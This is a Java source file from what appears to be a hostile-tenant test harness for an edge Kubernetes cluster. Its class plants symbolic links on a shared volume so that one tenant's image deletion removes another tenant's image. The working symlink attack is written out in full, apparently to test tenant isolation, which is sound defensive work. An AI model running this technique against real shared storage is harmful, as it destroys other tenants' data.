package org.chameleoncloud.edge.cluster.hostile;

import io.fabric8.kubernetes.api.model.GenericKubernetesResource;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.Path;
import java.time.Duration;
import java.util.stream.Stream;

/**
 * Links on the claim that both tenants' volume backs, the way any pod of the tenant can make them: his namespace's
 * directory becomes a link to the other's, so that the removal of his image removes another; a lock file becomes a link
 * to the other's image.
 */
final class PlantLinks implements Attack {
  private static final String BASE = "image: {source: {claimName: base-images, path: pi4.img}}";

  private static final int RESTART = 20;

  private final AttackContext context;
  private final Path own;
  private final Path others;

  PlantLinks(AttackContext context) {
    this.context = context;
    own = context.claim().resolve(context.tenant().namespace());
    others = Path.of("..").resolve(context.victim().namespace());
  }

  @Override
  public String name() {
    return "links";
  }

  @Override
  public Duration pause() {
    return Duration.ofSeconds(2);
  }

  /** His image has the same file name as the other's. */
  @Override
  public void setUp() throws IOException {
    lockFile("links-lock");
    context.tenant().apply(device(context.victim().image(), BASE));
    context.tenant().apply(device("links-lock", BASE));
  }

  private String device(String name, String... lines) {
    return Manifests.device(name, AttackContext.OWN_SECRET, Stream.concat(
        Stream.of("name: " + name + "-of-" + context.tenant().namespace()), Stream.of(lines))
        .toArray(String[]::new));
  }

  private void lockFile(String device) throws IOException {
    Files.createDirectories(own);
    link(own.resolve("." + device + ".img.baking.lock"),
        others.resolve(context.victim().image() + ".img"));
    link(own.resolve("." + device + ".img.baking"),
        others.resolve(context.victim().image() + ".img"));
  }

  private static void link(Path link, Path target) throws IOException {
    if (Files.notExists(link, LinkOption.NOFOLLOW_LINKS)) {
      Files.createSymbolicLink(link, target);
    }
  }

  @Override
  public void step(int step) throws IOException {
    switch (step % 4) {
      case 0 -> {
        if (!Files.isSymbolicLink(own)) {
          lockFile("links-lock");
        }
      }
      case 1 -> {
        if (isStored() && Files.isDirectory(own, LinkOption.NOFOLLOW_LINKS)) {
          replaceByLink();
        }
      }
      case 2 -> {
        if (Files.isSymbolicLink(own)) {
          context.tenant().apply(device(context.victim().image()));
          context.tenant().deleteDevice("links-lock");
        }
      }
      default -> {
        // Where the removal is refused, it starts from the beginning, too.
        if (Files.isSymbolicLink(own) && (!isStored() || step % RESTART == RESTART - 1)) {
          Files.delete(own);
          setUp();
        }
      }
    }
  }

  /** Whether his image of the other's file name is on the claim. */
  private boolean isStored() {
    return context.tenant().device(context.victim().image())
        .map(GenericKubernetesResource::getAdditionalProperties)
        .map(device -> device.get("status")).map(Object::toString)
        .filter(status -> status.contains("sha256")).isPresent();
  }

  /** The directory that he replaces stays under another name. */
  private void replaceByLink() throws IOException {
    Files.move(own, context.claim().resolve(".moved-" + System.nanoTime()));
    Files.createSymbolicLink(own, Path.of(context.victim().namespace()));
  }
}
